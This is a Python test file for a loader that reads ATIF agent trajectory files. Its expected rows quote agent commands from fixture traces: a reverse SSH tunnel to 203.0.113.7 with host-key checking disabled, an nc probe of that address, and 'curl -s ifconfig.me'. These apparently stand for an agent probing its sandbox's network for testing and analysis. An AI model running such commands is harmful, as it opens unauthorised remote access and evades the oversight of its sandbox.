"""ATIF loader: golden rows, Terminus-2 brackets, NeMo invocation times, subagents, the Harbor
trial layout with result.json as context, malformed steps, strict mode, gzip and sniffing."""

from __future__ import annotations

import json
import re
import shutil
from functools import cache
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
from loader_helpers import ns, rows
from loader_helpers import type_confused as _type_confused

from correlate.errors import FormatMismatch, InputError, StrictRejection
from correlate.loaders import LoadOptions, LoadResult
from correlate.loaders import atif as loader
from correlate.sources import Source

ROOT = Path(__file__).resolve().parent.parent
DATA = ROOT / "tests" / "data" / "atif"
RFC = DATA / "rfc_example_v1_4.json"
LOGIN = DATA / "login_trace_shared_timestamps_v1_7.json"
TERMINUS = DATA / "terminus2_bracket_shared_observation.json"
NEMO = DATA / "nemo_invocation_times_subagent_v1_7.json"
MALFORMED = DATA / "malformed_steps.json"
SAMPLES = sorted(p for p in DATA.iterdir() if p.is_file() and p.name != "README.md")
TRIAL = "build-cache__Xk3v9Qa"


def display(path: Path) -> str:
    try:
        return str(path.relative_to(ROOT))
    except ValueError:
        return path.name


def load(path: Path, options: LoadOptions | None = None, shown: str | None = None) -> LoadResult:
    return loader.read(Source(path, shown or display(path)), options or LoadOptions())


@cache
def loaded(path: Path) -> LoadResult:
    return load(path)


def by_call(result: LoadResult) -> dict[str, dict[str, Any]]:
    return {row["call_id"]: row for row in rows(result.table)}


def harbor_trial(root: Path, result: dict[str, Any] | None, trajectory: Path = TERMINUS) -> Path:
    """``<job>/<trial>/agent/trajectory.json`` (+ ``<trial>/result.json``) under ``root``."""
    agent = root / "2025-12-02__06-10-00" / TRIAL / "agent"
    agent.mkdir(parents=True)
    shutil.copy(trajectory, agent / "trajectory.json")
    if result is not None:
        (agent.parent / "result.json").write_text(json.dumps(result))
    return agent / "trajectory.json"


RESULT = {
    "id": "0f8e6a52-3c1d-4b7a-9e20-5d4c3b2a1f00",
    "task_name": "build-cache",
    "trial_name": TRIAL,
    "trial_uri": f"file:///jobs/2025-12-02__06-10-00/{TRIAL}",
    "agent_info": {"name": "terminus-2", "version": "2.0.0"},
    "started_at": "2025-12-02T06:10:01.000000Z",
    "finished_at": "2025-12-02T06:13:30.000000Z",
    "environment_setup": {
        "started_at": "2025-12-02T06:10:01Z",
        "finished_at": "2025-12-02T06:10:35Z",
    },
    "agent_setup": {"started_at": "2025-12-02T06:10:35Z", "finished_at": "2025-12-02T06:10:39Z"},
    "agent_execution": {
        "started_at": "2025-12-02T06:10:39.500000Z",
        "finished_at": "2025-12-02T06:12:10.000000Z",
    },
    "verifier": {"started_at": "2025-12-02T06:12:11Z", "finished_at": "2025-12-02T06:13:29Z"},
}


# --- golden rows --------------------------------------------------------------------------------


def test_terminus_ssh_command_row_is_exact():
    row = by_call(loaded(TERMINUS))["call_1_2"]
    keystrokes = "ssh -fNR 2222:localhost:22 -o StrictHostKeyChecking=no tunnel@203.0.113.7\n"
    assert row == {
        "call_id": "call_1_2",
        "run_id": "6f0c2a9e-1b7d-4c33-9a51-2e8d4b0f7c16",
        "episode_id": "6f0c2a9e-1b7d-4c33-9a51-2e8d4b0f7c16",  # no trial known: the session
        "step": 2,
        # Terminus-2 stamps a step after its commands ran: they ran since the previous step
        "ts_start": ns("2025-12-02T06:10:40.118233Z"),
        "ts_end": ns("2025-12-02T06:11:36.502114Z"),
        "ts_kind": "bracket",
        "tool": "bash_command",
        "command": keystrokes.rstrip("\n"),
        "arguments": json.dumps({"keystrokes": keystrokes, "duration": 15.0}),
        "output": (
            "New Terminal Output:\n\nroot@3f9c1b2a7d4e:/app# ls -la\ntotal 12\n...\n"
            "root@3f9c1b2a7d4e:/app# ssh -fNR 2222:localhost:22 -o StrictHostKeyChecking=no "
            "tunnel@203.0.113.7\nssh: connect to host 203.0.113.7 port 22: Connection timed out\n"
            "root@3f9c1b2a7d4e:/app#"
        ),  # the step's one unlabelled observation, shared by both commands
        "exit_code": None,
        "is_error": None,
        "host": None,
        "host_ip": None,
        "model": "anthropic/claude-sonnet-4-5",
        "train_step": None,
        "ts_note": "terminus-2: ran between the previous step and this step's time",
        "source_format": "atif",
        "source_path": "tests/data/atif/terminus2_bracket_shared_observation.json",
        "source_line": 2,
    }


def test_terminus_batch_commands_share_the_bracket_and_later_steps_chain():
    calls = by_call(loaded(TERMINUS))
    assert calls["call_1_1"]["command"] == "ls -la"
    assert (calls["call_1_1"]["ts_start"], calls["call_1_1"]["ts_end"]) == (
        calls["call_1_2"]["ts_start"],
        calls["call_1_2"]["ts_end"],
    )
    assert calls["call_2_1"]["ts_start"] == calls["call_1_2"]["ts_end"]
    assert calls["call_2_1"]["output"].endswith("[1] 4121\nroot@3f9c1b2a7d4e:/app#")
    assert calls["call_3_task_complete"]["command"] is None
    assert loaded(TERMINUS).stats.skipped == {"user step without tool calls": 1}


def test_rfc_example_loads_two_step_time_calls_with_labelled_results():
    calls = by_call(loaded(RFC))
    assert sorted(calls) == ["call_price_1", "call_volume_2"]
    price = calls["call_price_1"]
    assert (price["ts_start"], price["ts_end"], price["ts_kind"]) == (
        ns("2025-10-11T10:30:02Z"),
        None,
        "step",
    )
    assert price["output"] == "GOOGL is currently trading at $185.35 (Close: 10/11/2025)"
    assert calls["call_volume_2"]["output"] == "GOOGL volume: 1.5M shares traded."
    assert (price["episode_id"], price["model"]) == (
        "025B810F-B3A2-4C67-93C0-FE7A142A947A",
        "gemini-2.5-flash",
    )
    assert loaded(RFC).stats.skipped == {
        "user step without tool calls": 1,
        "agent step without tool calls": 1,
    }


def test_real_v1_7_trace_uses_the_trajectory_id_as_episode():
    table = rows(loaded(LOGIN).table)
    assert [r["call_id"] for r in table] == [f"call_{i}" for i in range(2, 8)]
    assert {r["episode_id"] for r in table} == {"login-trace-trajectory"}
    assert {r["run_id"] for r in table} == {"login-trace"}
    assert [r["ts_start"] for r in table][:5] == [ns("2026-06-24T14:39:44.732Z")] * 5


def test_invocation_records_give_exact_times():
    calls = by_call(loaded(NEMO))
    first = calls["inv-7f1"]
    assert (first["ts_start"], first["ts_end"], first["ts_kind"]) == (
        1_764_656_046_250_000_000,
        1_764_656_047_500_000_000,
        "exact",
    )
    assert first["ts_note"] == "start/end from the call's invocation record"
    probe = calls["inv-8a2"]  # from step.extra.tool_invocations[0]
    assert (probe["ts_start"], probe["ts_end"]) == (
        1_764_656_061_000_000_000,
        1_764_656_061_750_000_000,
    )
    assert probe["output"].startswith("nc: connect to 203.0.113.7")  # results out of order
    reversed_end = calls["inv-8a3"]
    assert (reversed_end["ts_start"], reversed_end["ts_end"]) == (1_764_656_061_500_000_000, None)
    assert reversed_end["ts_note"].endswith("end before start: end ignored")


def test_copied_context_is_skipped_and_subagent_steps_follow_the_main_ones():
    result = loaded(NEMO)
    assert "old-1" not in by_call(result)
    sub = by_call(result)["sub-1-1"]
    assert (sub["source_line"], sub["step"]) == (6, 2)
    assert (sub["run_id"], sub["episode_id"]) == ("nat-run-0042", "nat-run-0042-main")
    assert (sub["model"], sub["ts_kind"]) == ("nvidia/nemotron-nano-9b", "step")
    assert result.stats.skipped == {
        "user step without tool calls": 2,
        "step copied from an earlier context (is_copied_context)": 1,
    }
    assert (result.stats.read, result.stats.loaded) == (7, 4)


# --- Harbor trial layout ------------------------------------------------------------------------


def test_result_json_beside_the_trial_names_episode_and_host_and_is_context(tmp_path):
    path = harbor_trial(tmp_path, RESULT)
    result = load(path, shown="trajectory.json")
    assert result.context == [str((path.parent.parent / "result.json").resolve())]
    table = rows(result.table)
    assert {r["episode_id"] for r in table} == {TRIAL}
    assert {r["host"] for r in table} == {"build-cache__xk3v9qa__env"}  # compose project
    assert {r["ts_note"] for r in table} == {
        "terminus-2: ran between the previous step and this step's time"
    }


def test_step_without_timestamp_takes_the_agent_execution_window(tmp_path):
    document = json.loads(TERMINUS.read_text())
    del document["steps"][2]["timestamp"]
    source = tmp_path / "src.json"
    source.write_text(json.dumps(document))
    path = harbor_trial(tmp_path, RESULT, source)
    row = by_call(load(path, shown="trajectory.json"))["call_2_1"]
    assert (row["ts_start"], row["ts_end"], row["ts_kind"]) == (
        ns("2025-12-02T06:10:39.5Z"),
        ns("2025-12-02T06:12:10Z"),
        "bracket",
    )
    assert row["ts_note"] == "step has no timestamp: agent_execution window from result.json"


def test_step_outside_the_agent_execution_window_is_noted(tmp_path):
    result = dict(
        RESULT, agent_execution={"started_at": "2025-12-02T06:11:40Z", "finished_at": None}
    )
    path = harbor_trial(tmp_path, result)
    notes = {r["call_id"]: r["ts_note"] for r in rows(load(path, shown="t.json").table)}
    assert notes["call_1_1"] == (
        "step time outside result.json agent_execution window; "
        "terminus-2: ran between the previous step and this step's time"
    )
    assert "outside" not in notes["call_2_1"]


def test_trial_folder_name_stands_in_without_result_json(tmp_path):
    path = harbor_trial(tmp_path, None)
    result = load(path, shown="t.json")
    assert result.context == []
    assert {r["episode_id"] for r in rows(result.table)} == {TRIAL}
    assert {r["host"] for r in rows(result.table)} == {"build-cache__xk3v9qa__env"}


def test_unreadable_result_json_is_noted_not_fatal(tmp_path):
    path = harbor_trial(tmp_path, None)
    (path.parent.parent / "result.json").write_text("{not json")
    result = load(path, shown="t.json")
    assert result.stats.notes["result.json beside the trajectory unreadable (JSONDecodeError)"] == 1
    assert result.stats.loaded == 4


def test_compose_project_is_sanitised_like_harbor():
    assert loader.compose_project("Fix.Bug 12__AbC1234") == "fix-bug-12__abc1234__env"
    assert loader.compose_project("_x__AbC1234") == "0_x__abc1234__env"


# --- malformed, strict, options, gzip ------------------------------------------------------------


def test_malformed_steps_reject_exactly_the_bad_calls():
    result = loaded(MALFORMED)
    expected = {
        1: "step 1 is not an object",
        2: "tool_calls is not a list",
        3: "step 3 call c3: function_name is missing",
        4: "step 4 call c4: step has no timestamp (and no result.json agent_execution window)",
        5: "step 5 call c5: timestamp: not an ISO 8601 time: 'half past six'",
        7: "step 7 call c7: invocation start_timestamp: not an epoch time: 'soon'",
    }
    got = {r.location.line: r.reason for r in result.rejects}
    assert sorted(got) == sorted(expected)
    for line, fragment in expected.items():
        assert fragment in got[line], (line, got[line])
    assert len(result.rejects) == len(expected)
    assert result.stats.skipped == {"system step without tool calls": 1}
    assert (result.stats.read, result.stats.loaded, result.stats.rejected) == (9, 2, 6)
    assert result.stats.balanced


def test_malformed_good_calls_load_with_notes():
    calls = by_call(loaded(MALFORMED))
    assert calls["c3b"]["command"] == "curl -s ifconfig.me"
    naive = calls["c6"]
    assert naive["ts_start"] == ns("2025-12-02T06:41:00.5Z")
    assert naive["ts_note"] == "no zone: assumed UTC"
    assert naive["arguments"] == '{"command": "ping -c1 203.0.113.7"}'  # string arguments kept
    assert naive["command"] == "ping -c1 203.0.113.7"
    assert naive["output"] == "1 packets transmitted\n[image]"


def test_naive_step_times_honour_the_zone_option():
    result = load(MALFORMED, LoadOptions(zones={"atif": ZoneInfo("Asia/Shanghai")}))
    row = by_call(result)["c6"]
    assert row["ts_start"] == ns("2025-12-01T22:41:00.5Z")
    assert row["ts_note"] == "no zone: assumed Asia/Shanghai"


def test_strict_stops_at_the_first_rejected_step():
    with pytest.raises(
        StrictRejection, match=rf"^{re.escape(display(MALFORMED))}:1: step 1 is not"
    ):
        load(MALFORMED, LoadOptions(strict=True))


def test_document_without_steps_is_one_rejected_record(tmp_path):
    path = tmp_path / "t.json"
    path.write_text('{"schema_version": "ATIF-v1.8", "agent": {"name": "x"}}')
    result = load(path, shown="t.json")
    assert [(r.location.line, r.reason) for r in result.rejects] == [
        (1, "not an ATIF trajectory (no steps list)")
    ]


def test_unknown_schema_version_is_noted(tmp_path):
    document = json.loads(RFC.read_text())
    document["schema_version"] = "ATIF-v2.0"
    path = tmp_path / "t.json"
    path.write_text(json.dumps(document))
    result = load(path, shown="t.json")
    assert result.stats.notes == {"schema_version 'ATIF-v2.0': read as ATIF v1": 1}
    assert result.stats.loaded == 2


# --- sniffing ----------------------------------------------------------------------------------


@pytest.mark.parametrize("path", SAMPLES, ids=lambda p: p.name)
def test_sniff_is_sure_of_every_sample(path):
    source = Source(path, path.name)
    assert loader.sniff(source.head(), source.name) >= 0.9


@pytest.mark.parametrize(
    "content",
    [
        json.dumps(RESULT).encode(),  # Harbor's result.json
        b'{"schema_version": "1.4", "steps": []}',  # not an ATIF version string
        b'{"steps": [{"step_id": 1, "source": "user"}]}',
        b'[{"schema_version": "ATIF-v1.4"}]',
        b"\xff\xfe\x00binary",
    ],
    ids=["result-json", "bare-version", "no-schema-version", "array", "binary"],
)
def test_sniff_rejects_near_misses(content):
    assert loader.sniff(content, "trajectory.json") == 0.0


def test_values_of_the_wrong_type_never_crash_the_loader(tmp_path):
    path = tmp_path / "confused.json"
    for document in _type_confused(json.loads(NEMO.read_text())):
        path.write_text(json.dumps(document))
        try:
            result = loader.read(Source(path, "confused.json"), LoadOptions())
        except (InputError, FormatMismatch):
            continue
        assert result.stats.balanced, document
